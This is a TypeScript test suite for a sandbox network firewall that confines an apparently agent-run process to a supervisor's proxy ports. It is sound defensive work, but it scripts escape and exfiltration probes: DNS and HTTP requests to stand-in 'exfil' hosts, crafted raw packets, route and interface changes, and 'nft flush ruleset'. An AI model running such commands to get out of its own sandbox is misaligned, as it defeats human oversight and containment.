// Issue 3 (Network): from inside a sandbox network, as an unprivileged uid, only the
// supervisor's proxy ports answer; everything else is refused and counted; the agent cannot
// change routes, addresses, interfaces or rules. DESIGN.md §5 invariant 1.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  createDenyListener,
  createSandboxNetwork,
  type EgressDenial,
  type EgressListener,
  type SandboxNetwork,
  sweepStaleSandboxNetworks,
} from '../../src/supervisor/sandbox/network/index.ts';
import {
  assertGone,
  closeServer,
  DEAD_ADDRESS,
  probe,
  recordingServer,
  requireRoot,
  runInNetwork,
  TEST_PORTS,
} from './network-support.ts';

type Outcome = {
  ok?: boolean;
  code?: string;
  sent?: boolean;
  received?: string;
  status?: number;
  stderr?: string;
};

describe('sandbox network firewall, probed from inside as an unprivileged uid', () => {
  let network: SandboxNetwork;
  let neighbour: SandboxNetwork;
  let listener: EgressListener;
  const denials: EgressDenial[] = [];
  const servers: Awaited<ReturnType<typeof recordingServer>>[] = [];

  before(async () => {
    requireRoot();
    await sweepStaleSandboxNetworks();
    network = await createSandboxNetwork({ ports: TEST_PORTS });
    neighbour = await createSandboxNetwork({ ports: TEST_PORTS });
    listener = createDenyListener({ onDenied: (denial) => denials.push(denial) });
    await listener.listen(network);
    // Host services the sandbox must never reach: loopback, its own host address on another
    // port, every address (wildcard), and another sandbox's host address.
    servers.push(await recordingServer('127.0.0.1'));
    servers.push(await recordingServer(network.hostAddress));
    servers.push(await recordingServer('0.0.0.0'));
    servers.push(await recordingServer(neighbour.hostAddress));
  });

  after(async () => {
    await Promise.all(servers.map(({ server }) => closeServer(server)));
    await listener?.close();
    await network?.close();
    await neighbour?.close();
    if (network) assertGone(network);
    if (neighbour) assertGone(neighbour);
  });

  it('connects to each proxy port on the host address, and to nothing else', async () => {
    const [loopback, ownHost, wildcard, otherHost] = servers;
    const results = await probe<Outcome>(network, [
      ...Object.values(TEST_PORTS).map((port) => ({ op: 'tcp', host: network.hostAddress, port })),
      { op: 'tcp', host: network.hostAddress, port: ownHost!.port },
      { op: 'tcp', host: network.hostAddress, port: wildcard!.port },
      { op: 'tcp', host: network.hostAddress, port: loopback!.port },
      { op: 'tcp', host: '127.0.0.1', port: loopback!.port },
      { op: 'tcp', host: neighbour.hostAddress, port: otherHost!.port },
      { op: 'tcp', host: neighbour.sandboxAddress, port: 22 },
      { op: 'tcp', host: DEAD_ADDRESS, port: 22 },
      { op: 'tcp', host: network.hostAddress, port: 22 },
    ]);
    assert.deepEqual(
      results.slice(0, 4).map((result) => result.ok),
      [true, true, true, true],
    );
    for (const [index, result] of results.slice(4).entries()) {
      assert.equal(result.ok, false, `probe ${index + 4} connected`);
      assert.equal(result.code, 'ECONNREFUSED', `probe ${index + 4}: ${result.code}`);
    }
    assert.deepEqual(
      servers.map((server) => server.hits()),
      [0, 0, 0, 0],
      'a host service was reached',
    );
  });

  it('sends no UDP or DNS anywhere, and counts it', async () => {
    const before = await network.dropCounters();
    const results = await probe<Outcome>(network, [
      { op: 'udp', host: network.hostAddress, port: 53 },
      { op: 'udp', host: DEAD_ADDRESS, port: 4444 },
      { op: 'dns', server: DEAD_ADDRESS, name: 'exfil-secret.example.test' },
      { op: 'dns', server: network.hostAddress, name: 'exfil-secret.example.test' },
      { op: 'dns', server: DEAD_ADDRESS, name: 'x', tcp: true },
    ]);
    for (const result of results.slice(0, 2)) assert.notEqual(result.code, 'ANSWERED');
    for (const result of results.slice(2)) assert.equal(result.ok, false, JSON.stringify(result));
    const after = await network.dropCounters();
    assert.ok(after.udp >= before.udp + 4, `udp ${before.udp} -> ${after.udp}`);
    assert.ok(after.dns >= before.dns + 4, `dns ${before.dns} -> ${after.dns}`);
    assert.ok(after.tcp >= before.tcp + 1, `tcp ${before.tcp} -> ${after.tcp}`);
  });

  it('has no IPv6: no address, no route, sockets fail', async () => {
    const [interfaces, loopback, mapped] = await probe<
      Outcome & { interfaces?: Record<string, { family: string }[]> }
    >(network, [
      { op: 'interfaces' },
      { op: 'tcp', host: '::1', port: TEST_PORTS.httpProxy },
      { op: 'tcp', host: `::ffff:${DEAD_ADDRESS}`, port: 22 },
    ]);
    const families = Object.values(interfaces!.interfaces ?? {}).flatMap((list) =>
      list.map((entry) => entry.family),
    );
    assert.ok(!families.includes('IPv6'), `IPv6 addresses inside: ${JSON.stringify(interfaces!.interfaces)}`);
    assert.equal(loopback!.ok, false);
    assert.match(loopback!.code ?? '', /EADDRNOTAVAIL|ENETUNREACH|ECONNREFUSED/);
    assert.equal(mapped!.ok, false);
    const sysctl = await runInNetwork(network, ['cat', '/proc/sys/net/ipv6/conf/all/disable_ipv6'], {
      uid: 0,
    });
    assert.equal(sysctl.stdout.trim(), '1');
  });

  it('counts IPv6 the sysctl let through (the nft backstop)', async () => {
    // Root inside the namespace re-enables IPv6 on lo: only the ruleset stands in the way now.
    const enable = 'echo 0 > /proc/sys/net/ipv6/conf/lo/disable_ipv6; sleep 0.2';
    assert.equal((await runInNetwork(network, ['sh', '-c', enable], { uid: 0 })).code, 0);
    try {
      const before = await network.dropCounters();
      const [result] = await probe<Outcome>(network, [{ op: 'tcp', host: '::1', port: 9, timeoutMs: 500 }]);
      assert.equal(result!.ok, false);
      const after = await network.dropCounters();
      assert.ok(after.ipv6 > before.ipv6, `ipv6 ${before.ipv6} -> ${after.ipv6}`);
    } finally {
      await runInNetwork(network, ['sh', '-c', 'echo 1 > /proc/sys/net/ipv6/conf/lo/disable_ipv6'], {
        uid: 0,
      });
    }
  });

  it('drops ICMP and unknown protocols, and counts them', async () => {
    // Unprivileged: not even an ICMP socket (ping_group_range excludes every group).
    const unprivileged = await runInNetwork(network, [
      '/usr/bin/python3',
      '-c',
      'import socket\ntry:\n socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); print("opened")\nexcept OSError as e: print(e.errno)',
    ]);
    assert.notEqual(unprivileged.stdout.trim(), 'opened');
    // Root inside the namespace can craft them; the ruleset still drops them.
    const before = await network.dropCounters();
    const script = [
      'import socket',
      's = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)',
      `s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("${network.hostAddress}", 0))`,
      'o = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)',
      `o.sendto(b"paddock", ("${network.hostAddress}", 0))`,
    ].join('\n');
    const crafted = await runInNetwork(network, ['/usr/bin/python3', '-c', script], { uid: 0 });
    assert.equal(crafted.code, 1, 'the kernel reports the drop as EPERM to the sender');
    const after = await network.dropCounters();
    assert.ok(after.icmp > before.icmp, `icmp ${before.icmp} -> ${after.icmp}`);
    // The first sendto raised, so the second never ran: send it alone.
    const other = await runInNetwork(
      network,
      [
        '/usr/bin/python3',
        '-c',
        `import socket\ntry:\n socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b"x", ("${network.hostAddress}", 0))\nexcept OSError as e: print(e.errno)`,
      ],
      { uid: 0 },
    );
    assert.equal(other.code, 0, other.stderr);
    assert.ok((await network.dropCounters()).other > before.other);
  });

  it('will not let the unprivileged user change routes, addresses, interfaces or rules', async () => {
    const attempts = [
      ['ip', 'route', 'add', '10.231.0.0/30', 'dev', 'eth0'],
      ['ip', 'route', 'replace', 'default', 'dev', 'eth0'],
      ['ip', 'addr', 'add', '10.231.0.3/30', 'dev', 'eth0'],
      ['ip', 'link', 'add', 'escape0', 'type', 'dummy'],
      ['ip', 'link', 'set', 'eth0', 'down'],
      ['ip', 'rule', 'add', 'from', 'all', 'lookup', '100'],
      ['nft', 'flush', 'ruleset'],
      ['nft', 'list', 'ruleset'],
      ['sh', '-c', 'echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6'],
    ];
    const results = await probe<Outcome>(
      network,
      attempts.map((argv) => ({ op: 'exec', argv })),
    );
    for (const [index, result] of results.entries()) {
      assert.notEqual(result.status, 0, `${attempts[index]!.join(' ')} succeeded`);
      assert.match(
        result.stderr ?? '',
        /Operation not permitted|Permission denied/,
        attempts[index]!.join(' '),
      );
    }
    const counters = await network.dropCounters();
    assert.ok(Number.isInteger(counters.tcp), 'the ruleset is still loaded');
  });

  it('redirects TCP 80 and 443 to any address to the deny listener', async () => {
    const request = Buffer.from(
      'GET /upload HTTP/1.1\r\nHost: exfil.example.test\r\nConnection: close\r\n\r\n',
    );
    const [http, tls] = await probe<Outcome>(network, [
      { op: 'raw', host: DEAD_ADDRESS, port: 80, send: request.toString('base64') },
      { op: 'tls', host: DEAD_ADDRESS, port: 443, servername: 'exfil.example.test' },
    ]);
    const response = Buffer.from(http!.received ?? '', 'base64').toString('utf8');
    assert.match(response, /^HTTP\/1\.1 403 /);
    assert.match(response, /x-paddock-error: PDK_EGRESS_DENIED/i);
    const body = JSON.parse(response.slice(response.indexOf('\r\n\r\n') + 4)) as Record<string, unknown>;
    assert.equal(body.error, 'PDK_EGRESS_DENIED');
    assert.equal(body.host, 'exfil.example.test');
    assert.equal(body.via, 'transparent-http');
    assert.equal(tls!.ok, false);
    assert.match(tls!.code ?? '', /ALERT_ACCESS_DENIED|ECONNRESET/);
    const seen = denials.map((denial) => `${denial.via} ${denial.host}:${denial.port}`);
    assert.ok(seen.includes('transparent-http exfil.example.test:80'), seen.join(', '));
    assert.ok(seen.includes('transparent-tls exfil.example.test:443'), seen.join(', '));
    for (const denial of denials) assert.equal(denial.sourceAddress, network.sandboxAddress);
  });
});
